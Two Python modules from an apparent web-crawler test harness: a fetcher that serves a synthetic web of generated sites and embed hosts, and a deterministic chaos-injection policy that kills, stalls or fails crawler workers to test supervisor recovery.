:class:`SyntheticFetcher` implements the :class:`~repro.browser.page.Fetcher`
protocol over a :class:`~repro.synthweb.generator.SyntheticWeb`: top-level
site URLs resolve to the generated site (raising the site's assigned
failure), widget URLs resolve to the widget profile's document, partner and
generic embed hosts to their respective content, and anything else raises
:class:`~repro.crawler.errors.UnreachableError` — exactly what a crawler
sees when an iframe points at a dead host.
"""

from __future__ import annotations

import random
from urllib.parse import urlsplit

from repro.browser.dom import DocumentContent
from repro.browser.page import FetchResponse
from repro.crawler.errors import (
    CrawlError,
    EXCEPTION_BY_TAXONOMY,
    UnreachableError,
)
from repro.synthweb.generator import FailureMode, SiteSpec, SyntheticWeb

# FailureMode values are the taxonomy strings, so the shared registry in
# repro.crawler.errors resolves the exception type for each mode.
_FAILURE_EXCEPTIONS: dict[FailureMode, type[CrawlError]] = {
    mode: EXCEPTION_BY_TAXONOMY[mode.value]
    for mode in FailureMode if mode is not FailureMode.NONE
}


class SyntheticFetcher:
    """Fetches documents from a :class:`SyntheticWeb`."""

    def __init__(self, web: SyntheticWeb) -> None:
        self.web = web
        self.fetch_count = 0

    def fetch(self, url: str) -> FetchResponse:
        """Resolve ``url`` into a response.

        Raises:
            CrawlError: per the generated failure mode, or
                :class:`UnreachableError` for unknown hosts.
        """
        self.fetch_count += 1
        split = urlsplit(url)
        host = (split.hostname or "").lower()
        if not host:
            raise UnreachableError(f"unparsable URL: {url}")

        bare_host = host[4:] if host.startswith("www.") else host
        rank = self.web.rank_for_host(bare_host)
        if rank is not None and 0 <= rank < self.web.site_count:
            spec = self.web.site(rank)
            path = split.path or "/"
            if path.startswith("/p") and path[2:].isdigit():
                if spec.failure is not FailureMode.NONE:
                    raise _FAILURE_EXCEPTIONS[spec.failure](
                        f"{spec.failure.value}: {url}")
                index = int(path[2:])
                if index >= spec.subpage_count:
                    raise UnreachableError(f"404: {url}")
                return FetchResponse(
                    url=url, status=200, headers=dict(spec.headers),
                    content=self.web.subpage_content(rank, index))
            return self._fetch_site(url, spec,
                                    already_redirected=host.startswith("www."))

        profile = self.web.profile_for_host(host)
        if profile is not None:
            rng = random.Random(f"{self.web.seed}:widget:{url}")
            return FetchResponse(
                url=url, status=200, headers=profile.headers(),
                content=profile.build_content(rng))

        if host == "sub-syndication.example":
            rng = random.Random(f"{self.web.seed}:subsyn:{url}")
            return FetchResponse(
                url=url, status=200, headers={},
                content=self.web.sub_syndication_content(rng))

        if host.startswith("partner-") and host.endswith(".example"):
            return FetchResponse(
                url=url, status=200, headers={},
                content=self.web.partner_content(host, split.path))

        if host.startswith("cdn-widgets-") and host.endswith(".example"):
            return FetchResponse(
                url=url, status=200, headers={},
                content=self.web.generic_embed_content(host))

        raise UnreachableError(f"ERR_NAME_NOT_RESOLVED: {host}")

    def _fetch_site(self, url: str, spec: SiteSpec,
                    *, already_redirected: bool) -> FetchResponse:
        if spec.failure is not FailureMode.NONE:
            raise _FAILURE_EXCEPTIONS[spec.failure](
                f"{spec.failure.value}: {spec.url}")
        redirect_chain: tuple[str, ...] = ()
        final_url = url
        if spec.redirect_to is not None and not already_redirected:
            redirect_chain = (url,)
            final_url = spec.redirect_to
        return FetchResponse(
            url=final_url,
            status=200,
            headers=dict(spec.headers),
            content=spec.content(),
            redirect_chain=redirect_chain,
        )
