"""Deterministic chaos injection for the process-backend supervisor.

The supervisor (DESIGN.md §4k) claims a crawl survives worker death, hung
chunks and flaky merges without changing a byte of the dataset.  That
claim is only testable if the failures themselves are reproducible, so
this module injects them deterministically: a :class:`ChaosPolicy` is a
picklable recipe naming the exact ranks at which a worker dies
(``os._exit``), stalls (``time.sleep``), or the parent's sidecar merge
raises ``sqlite3.OperationalError``.

Two firing modes:

* **once** (``kill_ranks``/``hang_ranks``/``merge_error_ranks``) — the
  injection fires the first time its rank is attempted and never again.
  Worker processes are disposable (that is the point), so "fired" state
  cannot live in worker memory; it lives as marker files in
  ``state_dir``, created with ``O_CREAT | O_EXCL`` so exactly one attempt
  wins even across a crash boundary (the marker is durable by the time
  ``os._exit`` runs).  A recovered replay of the same rank then proceeds
  normally — which is exactly the transient worker-death scenario the
  crash-recovery path exists for.

* **always** (``poison_ranks``) — the injection fires on *every* attempt,
  modelling a site whose visit reliably kills the browser.  No recovery
  replay can get past it, so the supervisor must bisect the chunk down to
  the rank and quarantine it.

Injection points:

* worker side, at chunk pickup: :meth:`ChaosPolicy.on_chunk` is called
  with the chunk's ranks before any visit runs, so a killed chunk loses
  *all* its work — the worst case for replay byte-identity;
* parent side, at merge time: :meth:`ChaosPolicy.before_merge` raises for
  a chunk containing a marked rank, exercising the supervisor's merge
  retry.

Everything is a pure function of ``(policy fields, marker state)`` — no
randomness at fire time.  :meth:`ChaosPolicy.plan` picks the injection
ranks themselves from a seeded RNG so drills are one-line reproducible.
"""

from __future__ import annotations

import logging
import os
import random
import sqlite3
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Iterable, Sequence

logger = logging.getLogger(__name__)

#: Exit status an injected worker death uses; distinguishable in logs from
#: a real segfault (negative signal codes) and from a clean exit (0).
CHAOS_EXIT_CODE = 77


def _sorted_ranks(ranks: "Sequence[int] | Iterable[int]") -> tuple[int, ...]:
    out = tuple(sorted({int(rank) for rank in ranks}))
    if any(rank < 0 for rank in out):
        raise ValueError("chaos ranks must be >= 0")
    return out


@dataclass(frozen=True)
class ChaosPolicy:
    """Picklable, deterministic failure-injection recipe.

    Build one with :meth:`plan` (seeded rank selection) or directly with
    explicit rank tuples, and pass it to
    :meth:`CrawlerPool.run(chaos=...)
    <repro.crawler.pool.CrawlerPool.run>` (process backend only — an
    injected ``os._exit`` in the serial backend would kill the caller).
    """

    #: Ranks whose first attempt kills the worker (``os._exit``), once.
    kill_ranks: tuple[int, ...] = ()
    #: Ranks whose first attempt stalls the worker for ``hang_seconds``,
    #: once (the chunk watchdog is expected to recycle the worker first).
    hang_ranks: tuple[int, ...] = ()
    #: Ranks that kill the worker on *every* attempt — only quarantine
    #: gets the crawl past them.
    poison_ranks: tuple[int, ...] = ()
    #: Ranks whose chunk raises ``sqlite3.OperationalError`` at the
    #: parent's merge step, once.
    merge_error_ranks: tuple[int, ...] = ()
    #: How long a hang sleeps.  Far above any chunk deadline by default;
    #: drills shorten it so an undetected hang fails fast instead of
    #: wedging the suite.
    hang_seconds: float = 3600.0
    #: Directory holding the once-only marker files.  Required whenever a
    #: once-mode injection is configured.
    state_dir: str = ""
    #: Seed recorded by :meth:`plan` (informational — firing is already
    #: deterministic given the rank tuples).
    seed: int = 0

    def __post_init__(self) -> None:
        for name in ("kill_ranks", "hang_ranks", "poison_ranks",
                     "merge_error_ranks"):
            object.__setattr__(self, name,
                               _sorted_ranks(getattr(self, name)))
        if self.hang_seconds <= 0:
            raise ValueError("hang_seconds must be > 0")
        once = (self.kill_ranks or self.hang_ranks
                or self.merge_error_ranks)
        if once and not self.state_dir:
            raise ValueError(
                "once-only injections (kill/hang/merge) need a state_dir "
                "to record which ones already fired")

    @classmethod
    def plan(cls, site_count: int, *, seed: int = 0, kills: int = 0,
             hangs: int = 0, poisons: int = 0, merge_errors: int = 0,
             state_dir: "str | Path" = "",
             hang_seconds: float = 3600.0) -> "ChaosPolicy":
        """Pick disjoint injection ranks from a seeded RNG.

        The same ``(site_count, seed, counts)`` always selects the same
        ranks, so a drill's failure plan is reproducible from its report.

        Crash injections (kills, poisons, merge errors) are placed in the
        *first half* of the rank space and hangs in the *last quarter*:
        chunks dispatch in rank order, so the crash storm — including the
        poison rank's bisection probes, which drain the pipeline — is
        resolved before any hang chunk is in flight.  That keeps the
        watchdog the sole owner of the hang (a crash recovery that
        happened to doom a co-flying hung chunk would otherwise absorb
        it, leaving ``watchdog_hangs`` racy).
        """
        wanted = kills + hangs + poisons + merge_errors
        rng = random.Random(seed)
        crashes = kills + poisons + merge_errors
        if hangs:
            hang_span = range(site_count - site_count // 4, site_count)
            crash_span = range(min(site_count // 2, hang_span.start))
        else:
            hang_span = range(0)
            crash_span = range(site_count // 2 if crashes else 0)
        if crashes > len(crash_span) or hangs > len(hang_span):
            raise ValueError(
                f"cannot place {wanted} injections over {site_count} sites")
        picks = rng.sample(crash_span, crashes)
        kill = picks[:kills]
        poison = picks[kills:kills + poisons]
        merge = picks[kills + poisons:]
        hang = rng.sample(hang_span, hangs)
        return cls(kill_ranks=tuple(kill), hang_ranks=tuple(hang),
                   poison_ranks=tuple(poison),
                   merge_error_ranks=tuple(merge),
                   hang_seconds=hang_seconds, state_dir=str(state_dir),
                   seed=seed)

    # -- marker state -------------------------------------------------------

    def _arm(self, kind: str, rank: int) -> bool:
        """Atomically claim the (kind, rank) injection; True fires it.

        The marker file is created before the failure happens, so a
        killed worker leaves durable evidence and the replay skips the
        injection — once-only even across process death.
        """
        directory = Path(self.state_dir)
        directory.mkdir(parents=True, exist_ok=True)
        try:
            fd = os.open(directory / f"{kind}-{rank}.fired",
                         os.O_CREAT | os.O_EXCL | os.O_WRONLY)
        except FileExistsError:
            return False
        os.close(fd)
        return True

    def fired(self) -> dict[str, tuple[int, ...]]:
        """Injections that have fired, by kind — the drill's ground truth
        for checking recovery counts against the plan."""
        out: dict[str, list[int]] = {"kill": [], "hang": [], "merge": []}
        directory = Path(self.state_dir)
        if self.state_dir and directory.is_dir():
            for marker in directory.glob("*-*.fired"):
                kind, _, rank = marker.name[:-len(".fired")].partition("-")
                if kind in out and rank.isdigit():
                    out[kind].append(int(rank))
        return {kind: tuple(sorted(ranks)) for kind, ranks in out.items()}

    # -- injection points ---------------------------------------------------

    def on_chunk(self, ranks: "Sequence[int]") -> None:
        """Worker-side hook, called before a chunk's first visit.

        Poison beats kill beats hang when a chunk contains several marked
        ranks; the rank order within each kind is ascending, so firing is
        independent of chunk layout.
        """
        for rank in ranks:
            if rank in self.poison_ranks:
                logger.warning("chaos: poison rank %d — killing worker "
                               "pid %d", rank, os.getpid())
                os._exit(CHAOS_EXIT_CODE)
        for rank in ranks:
            if rank in self.kill_ranks and self._arm("kill", rank):
                logger.warning("chaos: injected death at rank %d — killing "
                               "worker pid %d", rank, os.getpid())
                os._exit(CHAOS_EXIT_CODE)
        for rank in ranks:
            if rank in self.hang_ranks and self._arm("hang", rank):
                logger.warning("chaos: injected hang at rank %d for %.1fs "
                               "(pid %d)", rank, self.hang_seconds,
                               os.getpid())
                time.sleep(self.hang_seconds)

    def before_merge(self, ranks: "Sequence[int]") -> None:
        """Parent-side hook, called before a chunk sidecar merges."""
        for rank in ranks:
            if rank in self.merge_error_ranks and self._arm("merge", rank):
                raise sqlite3.OperationalError(
                    f"chaos: injected merge failure for rank {rank}")

    def planned(self) -> dict[str, tuple[int, ...]]:
        """The injection plan by kind (for reports)."""
        return {"kill": self.kill_ranks, "hang": self.hang_ranks,
                "poison": self.poison_ranks,
                "merge": self.merge_error_ranks}
